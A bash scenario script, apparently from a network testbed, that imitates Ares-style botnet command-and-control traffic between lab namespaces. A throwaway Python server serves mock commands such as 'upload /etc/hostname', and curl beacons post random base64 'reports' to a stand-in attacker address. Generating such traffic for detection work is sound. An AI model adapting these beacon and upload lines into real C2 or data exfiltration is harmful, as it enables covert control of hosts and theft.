#!/usr/bin/env bash
# Bot: an infected host (TB_BOTS) beacons to a command-and-control server on the attacker (TB_NS), the
# way Ares polls its C2 over HTTP: periodic GETs for commands with jitter, result uploads, and now and
# then a file pulled down. The C2 server is a few lines of Python started for the scenario.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
infected=${TB_BOTS%% *}
c2="$TB_STATE/c2.py"
cat > "$c2" <<'PY'
import http.server, os, random, sys
class C2(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def reply(self, body):
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        if self.path.startswith("/api/pull"): self.reply(os.urandom(random.randint(20000, 200000)))
        else: self.reply(random.choice([b"idle", b"idle", b"idle", b"screenshot", b"ls /home", b"upload /etc/hostname"]))
    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0))); self.reply(b"ok")
http.server.ThreadingHTTPServer((sys.argv[1], 8080), C2).serve_forever()
PY
tb_bg "$TB_NS" python3 "$c2" "$TB_IP"
for _ in $(seq 50); do ip netns exec "$TB_NS" ss -Hltn | grep -q ":8080 " && break; sleep 0.1; done
bot_id="bot-$RANDOM$RANDOM"
for ((i = 0; i < TB_COUNT && $(tb_left) > 1; i++)); do
  tb_run "$infected" curl -s -m 5 -A "python-requests/2.18.4" -o /dev/null "http://$TB_IP:8080/api/$bot_id/hello"
  case $(( RANDOM % 10 )) in
    0|1|2) tb_run "$infected" curl -s -m 5 -A "python-requests/2.18.4" -o /dev/null \
             --data-binary "output=$(head -c $((200 + RANDOM % 3000)) /dev/urandom | base64 -w0)" "http://$TB_IP:8080/api/$bot_id/report" ;;
    3) tb_run "$infected" curl -s -m 10 -A "python-requests/2.18.4" -o /dev/null "http://$TB_IP:8080/api/pull/$RANDOM" ;;
  esac
  tb_pause 300 1500
done
# Stop the C2 server: it is the only process left in the attacker's namespace.
ip netns pids "$TB_NS" | xargs -r kill -INT 2>/dev/null
wait
